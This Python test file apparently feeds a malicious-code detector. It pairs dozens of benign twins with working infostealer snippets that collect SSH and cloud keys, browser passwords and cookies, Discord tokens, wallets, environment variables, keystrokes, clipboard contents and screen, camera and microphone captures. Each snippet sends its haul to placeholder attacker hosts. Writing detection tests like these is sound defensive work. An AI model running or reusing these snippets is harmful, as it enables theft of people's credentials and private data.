"""Files, keys and screens that are searched for, packed up and carried off."""

from __future__ import annotations

from pratique.verdict import Verdict
from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion

_HOOK = "https://hook.example.invalid/c"


def _leaves(title: str, code: str, honest: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """Statements that gather into ``got`` and are followed by a POST of it; the twin works for itself."""
    return evasion(
        title, f"import os, requests\n{code}\nrequests.post({_HOOK!r}, data={{'d': got}})\n", honest, verdict
    )


def _acts(title: str, bad: str, good: str, verdict: Verdict = MALICIOUS) -> Evasion:
    return evasion(title, bad.replace("HOOK", _HOOK), good, verdict)


_LIST = "import os\n\ndef sources(folder):\n    return [f for d, _, fs in os.walk(folder) for f in fs if f.endswith('.py')]\n"
_GLOB = "import glob\n\ndef sources(folder):\n    return [open(p).read() for p in glob.glob(folder + '/*.py')]\n"
_CLIP = "import pyperclip\n\ndef copy(text):\n    pyperclip.copy(text)\n"
_ENV = "import os\nDEBUG = os.environ.get('EXAMPLE_DEBUG')\n"

CASES = (
    _acts(
        "caller's secret to a host behind another one's name",
        "import requests\n\ndef check(password):\n    requests.post('https://cdn.example.com/c', headers={'Host': 'c.example.invalid'}, json={'p': password})\n",
        "import requests\n\ndef check(password):\n    requests.post('https://api.example.com/c', headers={'Host': 'api.example.com'}, json={'p': password})\n",
    ),
    _leaves(
        "home walked for documents",
        "got = []\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        if f.endswith(('.docx', '.pdf', '.txt')):\n            got.append(open(os.path.join(d, f), 'rb').read())",
        _LIST,
        SUSPICIOUS,
    ),
    _leaves(
        "home by Path.rglob",
        "from pathlib import Path\ngot = [p.read_bytes() for p in Path.home().rglob('*.kdbx')]",
        _GLOB,
        SUSPICIOUS,
    ),
    _leaves(
        "home by glob",
        "import glob\ngot = [open(p, 'rb').read() for p in glob.glob(os.path.expanduser('~/**/*.txt'), recursive=True)]",
        _GLOB,
        SUSPICIOUS,
    ),
    _leaves(
        "desktop by scandir",
        "got = [open(e.path, 'rb').read() for e in os.scandir(os.path.expanduser('~/Desktop')) if e.is_file()]",
        _LIST,
        SUSPICIOUS,
    ),
    _leaves(
        "documents by listdir",
        "base = os.path.join(os.environ['USERPROFILE'], 'Documents')\ngot = {n: open(os.path.join(base, n), 'rb').read() for n in os.listdir(base)}",
        _LIST,
        SUSPICIOUS,
    ),
    _leaves(
        "drives walked",
        "import string\ngot = []\nfor l in string.ascii_uppercase:\n    for d, _, fs in os.walk(l + ':\\\\'):\n        for f in fs:\n            if 'password' in f.lower():\n                got.append(open(os.path.join(d, f), 'rb').read())",
        _LIST,
        SUSPICIOUS,
    ),
    _leaves(
        "root walked",
        "got = b''\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        if f.endswith('.env'):\n            got += open(d + '/' + f, 'rb').read()",
        _LIST,
        SUSPICIOUS,
    ),
    _leaves(
        "home zipped in memory",
        "import io, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    for d, _, fs in os.walk(os.path.expanduser('~/Documents')):\n        for f in fs:\n            z.write(os.path.join(d, f))\ngot = b.getvalue()",
        "import io, os, zipfile\n\ndef pack(folder):\n    b = io.BytesIO()\n    with zipfile.ZipFile(b, 'w') as z:\n        for d, _, fs in os.walk(folder):\n            for f in fs:\n                z.write(os.path.join(d, f))\n    return b.getvalue()\n",
        SUSPICIOUS,
    ),
    _leaves(
        "browser store zipped in memory",
        "import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write(os.environ['LOCALAPPDATA'] + '/Google/Chrome/User Data/Default/Login Data')\nz.close()\nb.seek(0)\ngot = b.read()",
        "import io, zipfile\n\ndef pack(path):\n    b = io.BytesIO()\n    z = zipfile.ZipFile(b, 'w')\n    z.write(path)\n    z.close()\n    return b.getvalue()\n",
    ),
    _leaves(
        "keys in a tar in memory",
        "import io, tarfile\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'), arcname='s')\ngot = b.getvalue()",
        "import io, tarfile\n\ndef pack(path):\n    b = io.BytesIO()\n    with tarfile.open(fileobj=b, mode='w:gz') as t:\n        t.add(path)\n    return b.getvalue()\n",
    ),
    _leaves(
        "browser database copied, then read",
        "import shutil, sqlite3, tempfile\np = os.path.join(tempfile.gettempdir(), 'x.db')\nshutil.copy2(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), p)\ngot = sqlite3.connect(p).execute('select origin_url, password_value from logins').fetchall()",
        "import shutil, sqlite3\n\ndef rows(path):\n    shutil.copy2(path, 'x.db')\n    return sqlite3.connect('x.db').execute('select 1').fetchall()\n",
    ),
    _leaves(
        "profiles of Firefox",
        "import glob\ngot = [open(p, 'rb').read() for p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*/logins.json'))]",
        _GLOB,
    ),
    _leaves(
        "paths in a table of browsers",
        "L = os.getenv('LOCALAPPDATA')\nB = {'chrome': L + r'\\Google\\Chrome\\User Data', 'edge': L + r'\\Microsoft\\Edge\\User Data'}\ngot = {}\nfor name, path in B.items():\n    f = path + r'\\Default\\Cookies'\n    if os.path.exists(f):\n        with open(f, 'rb') as h:\n            got[name] = h.read()",
        _LIST,
    ),
    _leaves(
        "discord tokens in a loop",
        "import re\ngot = []\np = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\nfor n in os.listdir(p):\n    if n.endswith(('.log', '.ldb')):\n        for line in open(os.path.join(p, n), errors='ignore').readlines():\n            for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line):\n                got.append(t)",
        _LIST,
    ),
    _leaves(
        "wallets by name in a loop",
        "got = {}\nfor w in ('Exodus/exodus.wallet', 'Electrum/wallets', 'atomic/Local Storage/leveldb'):\n    p = os.path.join(os.environ['APPDATA'], w)\n    if os.path.isdir(p):\n        for n in os.listdir(p):\n            got[n] = open(os.path.join(p, n), 'rb').read()",
        _LIST,
    ),
    _leaves(
        "keys by a class",
        "class Taker:\n    def __init__(self):\n        self.found = {}\n    def take(self, name, path):\n        try:\n            self.found[name] = open(os.path.expanduser(path)).read()\n        except OSError:\n            pass\nt = Taker()\nt.take('a', '~/.aws/credentials')\nt.take('b', '~/.ssh/id_rsa')\ngot = t.found",
        _LIST,
    ),
    _leaves(
        "keys by a generator",
        "def found():\n    for n in ('.netrc', '.pypirc', '.git-credentials'):\n        p = os.path.join(os.path.expanduser('~'), n)\n        if os.path.exists(p):\n            yield n, open(p).read()\ngot = dict(found())",
        _LIST,
    ),
    _leaves(
        "keys with map",
        "got = list(map(lambda p: open(os.path.expanduser(p)).read(), ['~/.netrc', '~/.pypirc']))",
        _LIST,
    ),
    _leaves(
        "key's path in base64",
        "import base64\ngot = open(base64.b64decode('L3Jvb3QvLnNzaC9pZF9yc2E=').decode()).read()",
        _LIST,
    ),
    _leaves(
        "key's path joined of a list",
        "got = open(os.sep.join([os.environ.get('HOME', ''), '.ssh', 'id_' + 'rsa'])).read()",
        _LIST,
    ),
    _leaves(
        "key's path formatted",
        "got = open('{}/.{}/{}'.format(os.path.expanduser('~'), 'aws', 'credentials')).read()",
        _LIST,
    ),
    _leaves(
        "environments of other processes",
        "import glob\ngot = b''.join(open(p, 'rb').read() for p in glob.glob('/proc/*/environ'))",
        _GLOB,
    ),
    _leaves("environment of the parent", "got = open(f'/proc/{os.getppid()}/environ', 'rb').read()", _ENV),
    _leaves(
        "environment by psutil",
        "import psutil\ngot = psutil.Process().environ()",
        "import psutil\nN = psutil.cpu_count()\n",
    ),
    _leaves(
        "environments by psutil",
        "import psutil\ngot = [p.environ() for p in psutil.process_iter()]",
        "import psutil\nN = [p.name() for p in psutil.process_iter()]\n",
    ),
    _leaves(
        "environment in a loop", "got = ''\nfor k in os.environ:\n    got += k + '=' + os.environ[k] + '\\n'", _ENV
    ),
    _leaves("environment sorted", "got = sorted(os.environ.items())", _ENV),
    _leaves("environment by map", "got = list(map(lambda kv: '='.join(kv), os.environ.items()))", _ENV),
    _leaves(
        "environment by JSON in a function",
        "import json\ndef pack(d):\n    return json.dumps(dict(d))\ngot = pack(os.environ)",
        _ENV,
    ),
    _leaves(
        "environment by filter of a list of words",
        "got = {k: v for k, v in os.environ.items() if any(w in k for w in ('KEY', 'TOKEN', 'SECRET'))}",
        _ENV,
    ),
    _leaves(
        "environment by ctypes",
        "import ctypes\ngot = ctypes.windll.kernel32.GetEnvironmentStringsW()",
        _ENV,
        SUSPICIOUS,
    ),
    _leaves(
        "CI variables by name",
        "got = {k: os.environ.get(k) for k in ('GITHUB_TOKEN', 'CI_JOB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'NPM_TOKEN')}",
        _ENV,
    ),
    _leaves(
        "CI variables by prefix",
        "got = {k: v for k, v in os.environ.items() if k.startswith(('GITHUB_', 'CI_', 'AWS_'))}",
        _ENV,
    ),
    _leaves(
        "metadata token by two requests",
        "t = requests.put('http://169.254.169.254/latest/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}).text\ngot = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', headers={'X-aws-ec2-metadata-token': t}).text",
        "import requests\n\ndef zone():\n    return requests.get('http://169.254.169.254/latest/meta-data/placement/region').text\n",
    ),
    _leaves(
        "metadata of another cloud",
        "got = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'}).json()",
        _ENV,
    ),
    _leaves(
        "container credentials",
        "got = requests.get('http://169.254.170.2' + os.environ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI']).text",
        _ENV,
    ),
    _leaves(
        "instance role by boto",
        "import boto3\nc = boto3.Session().get_credentials().get_frozen_credentials()\ngot = [c.access_key, c.secret_key, c.token]",
        "import boto3\n\ndef buckets():\n    return boto3.client('s3').list_buckets()\n",
    ),
    _leaves(
        "secrets manager",
        "import boto3\nm = boto3.client('secretsmanager')\ngot = [m.get_secret_value(SecretId=s['Name']) for s in m.list_secrets()['SecretList']]",
        "import boto3\n\ndef buckets():\n    return boto3.client('s3').list_buckets()\n",
        SUSPICIOUS,
    ),
    _leaves(
        "git configuration by a process",
        "import subprocess\ngot = subprocess.check_output(['git', 'config', '--global', '--list'])",
        "import subprocess\n\ndef name():\n    return subprocess.check_output(['git', 'config', 'user.name'])\n",
        SUSPICIOUS,
    ),
    _leaves(
        "git configuration file",
        "got = open(os.path.expanduser('~/.gitconfig')).read() + open('.git/config').read()",
        _ENV,
        SUSPICIOUS,
    ),
    _leaves(
        "cloud tool's token",
        "import subprocess\ngot = subprocess.check_output('gcloud auth print-access-token', shell=True)",
        "import subprocess\n\ndef version():\n    return subprocess.check_output('gcloud version', shell=True)\n",
    ),
    _leaves(
        "token of a hub's tool",
        "import subprocess\ngot = subprocess.getoutput('gh auth token')",
        "import subprocess\n\ndef version():\n    return subprocess.getoutput('gh --version')\n",
    ),
    _leaves(
        "agent's keys", "import paramiko\ngot = [k.get_base64() for k in paramiko.Agent().get_keys()]", _ENV, SUSPICIOUS
    ),
    _leaves(
        "key store of the system",
        "import keyring\ngot = {s: keyring.get_password(s, 'me') for s in ('twine', 'git')}",
        "import keyring\n\ndef password(user):\n    return keyring.get_password('example', user)\n",
    ),
    _leaves(
        "key store's file", "got = open(os.path.expanduser('~/.local/share/keyrings/login.keyring'), 'rb').read()", _ENV
    ),
    _leaves(
        "key chain file", "got = open(os.path.expanduser('~/Library/Keychains/login.keychain-db'), 'rb').read()", _ENV
    ),
    _leaves(
        "docker's logins", "got = open(os.path.join(os.path.expanduser('~'), '.docker', 'config.json')).read()", _ENV
    ),
    _leaves(
        "PGP keys", "import subprocess\ngot = subprocess.check_output(['gpg', '--export-secret-keys', '-a'])", _ENV
    ),
    _leaves("password hashes", "import spwd\ngot = [(e.sp_namp, e.sp_pwdp) for e in spwd.getspall()]", _ENV),
    _leaves(
        "shell histories in a loop",
        "got = []\nfor n in ('.bash_history', '.zsh_history', '.python_history'):\n    p = os.path.expanduser('~/' + n)\n    if os.path.exists(p):\n        got.append(open(p).read())",
        _LIST,
    ),
    _leaves(
        "shell history by readline",
        "import readline\nreadline.read_history_file(os.path.expanduser('~/.bash_history'))\ngot = [readline.get_history_item(i) for i in range(readline.get_current_history_length())]",
        "import readline\nreadline.read_history_file('.example')\n",
    ),
    _leaves(
        "notebook's tokens",
        "got = [open(os.path.join(d, f)).read() for d, _, fs in os.walk(os.path.expanduser('~/.local/share/jupyter/runtime')) for f in fs]",
        _LIST,
        SUSPICIOUS,
    ),
    _leaves("hub's token file", "got = open(os.path.expanduser('~/.cache/huggingface/token')).read()", _ENV),
    _leaves(
        "clipboard by win32",
        "import win32clipboard as w\nw.OpenClipboard()\ngot = w.GetClipboardData()\nw.CloseClipboard()",
        _CLIP,
    ),
    _leaves(
        "clipboard by ctypes",
        "import ctypes\nctypes.windll.user32.OpenClipboard(0)\ngot = ctypes.c_char_p(ctypes.windll.user32.GetClipboardData(1)).value",
        _CLIP,
    ),
    _leaves(
        "clipboard by xclip",
        "import subprocess\ngot = subprocess.run(['xclip', '-o', '-selection', 'clipboard'], capture_output=True).stdout",
        _CLIP,
    ),
    _leaves(
        "clipboard by PowerShell",
        "import subprocess\ngot = subprocess.check_output('powershell Get-Clipboard', shell=True)",
        _CLIP,
    ),
    _leaves(
        "screen saved and opened",
        "import pyautogui\npyautogui.screenshot('s.png')\ngot = open('s.png', 'rb').read()",
        "import pyautogui\n\ndef shot(path):\n    pyautogui.screenshot(path)\n",
    ),
    _leaves(
        "screen into a buffer",
        "import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\ngot = b.getvalue()",
        "import io\nfrom PIL import Image\n\ndef png(i):\n    b = io.BytesIO()\n    i.save(b, 'PNG')\n    return b.getvalue()\n",
    ),
    _leaves(
        "screen by mss in a with",
        "import mss\nwith mss.mss() as s:\n    s.shot(output='s.png')\ngot = open('s.png', 'rb').read()",
        "import mss\n\ndef shot():\n    with mss.mss() as s:\n        return s.shot()\n",
    ),
    _leaves(
        "screen by a process",
        "os.system('screencapture -x /tmp/s.png')\ngot = open('/tmp/s.png', 'rb').read()",
        _ENV,
        SUSPICIOUS,
    ),
    _leaves(
        "camera through a file",
        "import cv2\nok, i = cv2.VideoCapture(0).read()\ncv2.imwrite('c.png', i)\ngot = open('c.png', 'rb').read()",
        "import cv2\n\ndef shot():\n    return cv2.VideoCapture(0).read()\n",
    ),
    _leaves(
        "microphone",
        "import sounddevice\ngot = sounddevice.rec(44100, samplerate=44100, channels=1).tobytes()",
        "import sounddevice\n\ndef record(n):\n    return sounddevice.rec(n)\n",
    ),
    _leaves(
        "microphone by pyaudio",
        "import pyaudio\ngot = pyaudio.PyAudio().open(rate=44100, channels=1, format=8, input=True).read(1024)",
        "import pyaudio\n\ndef devices():\n    return pyaudio.PyAudio().get_device_count()\n",
    ),
    _acts(
        "key strokes in a class",
        "import requests\nfrom pynput.keyboard import Listener\n\nclass L:\n    def __init__(self):\n        self.log = ''\n    def press(self, key):\n        self.log += str(key)\n        if len(self.log) > 99:\n            requests.post('HOOK', data=self.log)\n    def run(self):\n        with Listener(on_press=self.press) as l:\n            l.join()\nL().run()\n",
        "from pynput.keyboard import Listener\n\ndef listen(f):\n    with Listener(on_press=f) as l:\n        l.join()\n",
    ),
    _acts(
        "key strokes by keyboard",
        "import keyboard, requests\nlog = []\nkeyboard.on_release(callback=lambda e: log.append(e.name))\n\ndef send():\n    requests.post('HOOK', json=log)\nimport threading\nthreading.Timer(60, send).start()\n",
        "import keyboard\n\ndef on(key, f):\n    keyboard.add_hotkey(key, f)\n",
    ),
    _acts(
        "key strokes recorded",
        "import keyboard, requests\nrequests.post('HOOK', data=str(keyboard.record(until='esc')))\n",
        "import keyboard\n\ndef wait():\n    keyboard.wait('esc')\n",
    ),
    _acts(
        "key strokes by pynput, written and mailed",
        "import smtplib\nfrom pynput import keyboard\n\ndef press(k):\n    with open('/tmp/k', 'a') as f:\n        f.write(str(k))\n    smtplib.SMTP('mail.example.invalid').sendmail('a@example.invalid', 'b@example.invalid', open('/tmp/k').read())\nkeyboard.Listener(on_press=press).start()\n",
        "from pynput import keyboard\n\ndef listen(f):\n    keyboard.Listener(on_press=f).start()\n",
    ),
    _acts(
        "input replaced",
        "import builtins, requests\nreal = builtins.input\n\ndef fake(p=''):\n    v = real(p)\n    requests.post('http://192.0.2.7/', data=v)\n    return v\nbuiltins.input = fake\n",
        "def ask():\n    return input('name? ')\n",
    ),
    _acts(
        "requests' session patched for passwords",
        "import requests\nreal = requests.Session.request\n\ndef fake(self, method, url, **k):\n    real(self, 'POST', 'http://192.0.2.7/', json={'a': str(k.get('auth')), 'h': str(k.get('headers'))})\n    return real(self, method, url, **k)\nrequests.Session.request = fake\n",
        "import requests\nreal = requests.Session.request\n\ndef traced(self, method, url, **k):\n    print(method, url)\n    return real(self, method, url, **k)\nrequests.Session.request = traced\n",
    ),
    _acts(
        "getpass wrapped by a decorator",
        "import functools, getpass, urllib.request\n\ndef tee(f):\n    @functools.wraps(f)\n    def inner(*a, **k):\n        v = f(*a, **k)\n        urllib.request.urlopen('http://192.0.2.7/?' + v)\n        return v\n    return inner\ngetpass.getpass = tee(getpass.getpass)\n",
        "import functools, getpass\n\ndef tee(f):\n    @functools.wraps(f)\n    def inner(*a, **k):\n        return f(*a, **k)\n    return inner\ngetpass.getpass = tee(getpass.getpass)\n",
    ),
    _acts(
        "asked for a password at import",
        "import getpass, requests\nrequests.post('HOOK', data=getpass.getpass('sudo password: '))\n",
        "import getpass\n\ndef login():\n    return getpass.getpass()\n",
    ),
    _acts(
        "clipper in a thread",
        "import re, threading, time, pyperclip\n\ndef clip():\n    while True:\n        t = pyperclip.paste()\n        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n            pyperclip.copy('bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')\n        time.sleep(1)\nthreading.Thread(target=clip, daemon=True).start()\n",
        "import pyperclip\n\ndef strip():\n    pyperclip.copy(pyperclip.paste().strip())\n",
        SUSPICIOUS,
    ),
    _acts(
        "by the web browser",
        "import os, webbrowser, urllib.parse\nwebbrowser.open('https://c.example.invalid/?' + urllib.parse.urlencode(dict(os.environ)))\n",
        "import webbrowser\n\ndef docs():\n    webbrowser.open('https://docs.example.invalid/')\n",
    ),
    _acts(
        "by a log server",
        "import logging, logging.handlers, os\nlogging.getLogger().addHandler(logging.handlers.SocketHandler('192.0.2.7', 9020))\nlogging.error(dict(os.environ))\n",
        "import logging, logging.handlers\nlogging.getLogger().addHandler(logging.handlers.RotatingFileHandler('a.log'))\nlogging.error('x')\n",
    ),
    _acts(
        "by git push",
        "import os, subprocess\nopen('e.txt', 'w').write(str(dict(os.environ)))\nsubprocess.run('git add e.txt && git commit -m x && git push https://git.example.invalid/a main', shell=True)\n",
        "import subprocess\n\ndef push():\n    subprocess.run('git push', shell=True)\n",
    ),
    _acts(
        "by names in a loop of letters",
        "import os, socket\nd = open(os.path.expanduser('~/.netrc')).read().encode().hex()\nwhile d:\n    socket.gethostbyname(d[:60] + '.x.example.invalid')\n    d = d[60:]\n",
        "import socket\n\ndef up(h):\n    return socket.gethostbyname(h)\n",
    ),
    _acts(
        "by ICMP of scapy",
        "import os\nfrom scapy.all import IP, ICMP, send\nsend(IP(dst='192.0.2.7') / ICMP() / str(dict(os.environ)))\n",
        "from scapy.all import IP, ICMP, sr1\n\ndef ping(h):\n    return sr1(IP(dst=h) / ICMP())\n",
    ),
    _acts(
        "by a raw socket",
        "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\ns.sendto(b'\\x08\\0' + str(os.environ).encode(), ('192.0.2.7', 0))\n",
        "import socket\n\ndef make():\n    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n",
    ),
    _acts(
        "by e-mail with a message object",
        "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(dict(os.environ)))\nm['To'] = 'a@example.invalid'\nwith smtplib.SMTP_SSL('mail.example.invalid') as s:\n    s.login('a', 'b')\n    s.send_message(m)\n",
        "from email.message import EmailMessage\n\ndef make(text):\n    m = EmailMessage()\n    m.set_content(text)\n    return m\n",
    ),
    _acts(
        "by FTP with a transfer",
        "import ftplib, io, os\nwith ftplib.FTP('192.0.2.7', 'u', 'p') as f:\n    f.storlines('STOR e', io.BytesIO(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()))\n",
        "import ftplib\n\ndef get(h):\n    return ftplib.FTP(h).nlst()\n",
    ),
    _acts(
        "by a table on the web",
        "import gspread, os\ngspread.service_account('x.json').open('t').sheet1.append_row([str(dict(os.environ))])\n",
        "import gspread\n\ndef add(row):\n    gspread.service_account().open('t').sheet1.append_row(row)\n",
    ),
    _acts(
        "by a subclass of a thread",
        "import os, threading, requests\nclass T(threading.Thread):\n    def __init__(self, d):\n        super().__init__()\n        self.d = d\n    def run(self):\n        requests.post('HOOK', data=self.d)\nT(dict(os.environ)).start()\n",
        "import threading\nclass T(threading.Thread):\n    def __init__(self, d):\n        super().__init__()\n        self.d = d\n    def run(self):\n        print(self.d)\n",
    ),
    _acts(
        "by a wrapper with a dict of options",
        "import os, requests\n\ndef call(**o):\n    return getattr(requests, o.pop('how'))(o.pop('to'), **o)\ncall(how='post', to='HOOK', json={'e': dict(os.environ)})\n",
        "import requests\n\ndef call(**o):\n    return requests.get(o.pop('to'), **o)\n",
    ),
    _acts(
        "by a prepared request",
        "import os, requests\nr = requests.Request('POST', 'HOOK', data=dict(os.environ)).prepare()\nrequests.Session().send(r)\n",
        "import requests\n\ndef make(u):\n    return requests.Request('GET', u).prepare()\n",
    ),
    _acts(
        "by asyncio and aiohttp",
        "import aiohttp, asyncio, os\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.post('HOOK', json=dict(os.environ)) as r:\n            await r.text()\nasyncio.run(main())\n",
        "import aiohttp\n\nasync def get(u):\n    async with aiohttp.ClientSession() as s:\n        async with s.get(u) as r:\n            return await r.text()\n",
    ),
    _acts(
        "by asyncio streams",
        "import asyncio, os\n\nasync def main():\n    r, w = await asyncio.open_connection('192.0.2.7', 80)\n    w.write(str(dict(os.environ)).encode())\n    await w.drain()\nasyncio.run(main())\n",
        "import asyncio\n\nasync def ask(h):\n    r, w = await asyncio.open_connection(h, 80)\n    w.write(b'GET /')\n    return await r.read()\n",
    ),
    _acts(
        "by a curl of a file that another function wrote",
        "import json, os, subprocess, tempfile\n\ndef keep():\n    p = os.path.join(tempfile.gettempdir(), 'a.json')\n    with open(p, 'w') as f:\n        json.dump(dict(os.environ), f)\n    return p\nsubprocess.Popen(['curl', '-s', '-T', keep(), 'HOOK'])\n",
        "import json, os, tempfile\n\ndef keep(d):\n    p = os.path.join(tempfile.gettempdir(), 'a.json')\n    with open(p, 'w') as f:\n        json.dump(d, f)\n    return p\n",
    ),
    _acts(
        "by Python in another process",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os, urllib.request as u; u.urlopen(\"HOOK\", data=str(dict(os.environ)).encode())'])\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n",
    ),
    _acts(
        "by multiprocessing",
        "import multiprocessing, os, requests\n\ndef send(d):\n    requests.post('HOOK', data=d)\nmultiprocessing.Process(target=send, args=(dict(os.environ),)).start()\n",
        "import multiprocessing\n\ndef work(d):\n    print(d)\n\ndef start():\n    multiprocessing.Process(target=work, args=(1,)).start()\n",
    ),
    _acts(
        "by a queue and a worker",
        "import os, queue, threading, requests\nq = queue.Queue()\n\ndef work():\n    while True:\n        requests.post('HOOK', data=q.get())\nthreading.Thread(target=work, daemon=True).start()\nq.put(dict(os.environ))\n",
        "import queue, threading\nq = queue.Queue()\n\ndef work():\n    while True:\n        print(q.get())\nthreading.Thread(target=work, daemon=True).start()\n",
    ),
    _acts(
        "by a handler class of one's own",
        "import logging, os, requests\nclass H(logging.Handler):\n    def emit(self, record):\n        requests.post('HOOK', data=record.getMessage())\nlog = logging.getLogger('x')\nlog.addHandler(H())\nlog.info(str(dict(os.environ)))\n",
        "import logging\nclass H(logging.Handler):\n    def emit(self, record):\n        print(record.getMessage())\nlogging.getLogger('x').addHandler(H())\n",
    ),
    _acts(
        "by an exception hook that reports locals",
        "import os, sys, requests\n\ndef hook(t, v, tb):\n    requests.post('HOOK', json={'env': dict(os.environ), 'e': str(v)})\nsys.excepthook = hook\n",
        "import sys\n\ndef hook(t, v, tb):\n    print(v)\nsys.excepthook = hook\n",
    ),
    _acts(
        "by a telemetry library's extra",
        "import os, sentry_sdk\nsentry_sdk.init('https://k@c.example.invalid/1')\nsentry_sdk.capture_message(str(dict(os.environ)))\n",
        "import sentry_sdk\n\ndef report(e):\n    sentry_sdk.capture_exception(e)\n",
    ),
    _leaves(
        "keys by subprocess tar",
        "import subprocess\ngot = subprocess.run(['tar', 'czf', '-', os.path.expanduser('~/.ssh')], capture_output=True).stdout",
        _ENV,
    ),
    _leaves(
        "environment by a comprehension of f-strings",
        "got = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
        _ENV,
    ),
    _leaves("kube by yaml", "import yaml\ngot = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))", _ENV),
    _leaves(
        "browser cookies by sqlite uri",
        "import sqlite3\nd = sqlite3.connect('file:' + os.path.expanduser('~/.config/google-chrome/Default/Cookies') + '?mode=ro', uri=True)\ngot = d.execute('select * from cookies').fetchall()",
        _ENV,
    ),
    _leaves(
        "pypirc by configparser",
        "import configparser\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pypirc'))\ngot = {s: dict(c[s]) for s in c.sections()}",
        _ENV,
    ),
    _leaves(
        "wallets walked",
        "got = []\nfor d, _, fs in os.walk(os.path.join(os.environ['APPDATA'], 'Exodus')):\n    got += [open(os.path.join(d, f), 'rb').read() for f in fs]",
        _ENV,
    ),
    _leaves(
        "password manager export",
        "got = open(os.path.join(os.path.expanduser('~'), 'Documents', 'vault.kdbx'), 'rb').read()",
        _ENV,
    ),
    _leaves(
        "documents by a helper",
        "from pathlib import Path\ndef find(root):\n    for p in root.rglob('*'):\n        if p.suffix == '.docx':\n            yield p.read_bytes()\ngot = list(find(Path.home()))",
        _ENV,
        SUSPICIOUS,
    ),
    _leaves(
        "screen by pyautogui into memory",
        "import io, pyautogui\nb = io.BytesIO()\npyautogui.screenshot().save(b, format='PNG')\nb.seek(0)\ngot = b",
        _ENV,
    ),
    _leaves(
        "clipboard by tkinter's root", "import tkinter as tk\nr = tk.Tk()\nr.withdraw()\ngot = r.clipboard_get()", _ENV
    ),
    _leaves(
        "secrets by a table of paths and map",
        "P = ['~/.aws/credentials', '~/.azure/accessTokens.json']\ngot = dict(zip(P, map(lambda p: open(os.path.expanduser(p)).read() if os.path.exists(os.path.expanduser(p)) else '', P)))",
        _ENV,
    ),
    _leaves("environment of PID 1", "got = open('/proc/1/environ').read()", _ENV),
    _leaves(
        "discord by glob",
        "import glob, re\ngot = [re.findall(r'mfa\\.[\\w-]{84}', open(f, errors='ignore').read()) for f in glob.glob(os.getenv('APPDATA') + '/discord/Local Storage/leveldb/*.ldb')]",
        _ENV,
    ),
    _acts(
        "environment by httpx stream in a class",
        "import os, httpx\nclass T:\n    url = 'HOOK'\n    def __init__(self):\n        self.data = {k: v for k, v in os.environ.items()}\n    def __enter__(self):\n        return self\n    def __exit__(self, *a):\n        httpx.post(self.url, json=self.data)\nwith T():\n    pass\n",
        "import httpx\nclass T:\n    def get(self, u):\n        return httpx.get(u)\n",
    ),
    _acts(
        "keys by a scheduled timer that re-arms",
        "import os, threading, urllib.request as u\ndef tick():\n    u.urlopen('HOOK', data=open(os.path.expanduser('~/.netrc'), 'rb').read())\n    threading.Timer(60, tick).start()\ntick()\n",
        "import threading\ndef tick():\n    threading.Timer(60, tick).start()\n",
    ),
    _acts(
        "caller's key by a dataclass hook",
        "import dataclasses, requests\n@dataclasses.dataclass\nclass Account:\n    private_key: str\n    def __post_init__(self):\n        requests.get('http://192.0.2.7/?k=' + self.private_key)\n",
        "import dataclasses\n@dataclasses.dataclass\nclass Account:\n    private_key: str\n",
    ),
    _acts(
        "key logger with a queue list and atexit",
        "import atexit, requests\nfrom pynput import keyboard\nbuf = []\nkeyboard.Listener(on_press=lambda k: buf.append(str(k))).start()\natexit.register(lambda: requests.post('HOOK', data=''.join(buf)))\n",
        "from pynput import keyboard\ndef on(f):\n    return keyboard.Listener(on_press=f)\n",
    ),
    _acts(
        "environment over a raw TLS socket",
        "import os, socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('c.example.invalid', 443)), server_hostname='c.example.invalid')\ns.sendall(repr(dict(os.environ)).encode())\n",
        "import socket, ssl\ndef connect(h):\n    return ssl.create_default_context().wrap_socket(socket.create_connection((h, 443)), server_hostname=h)\n",
    ),
)
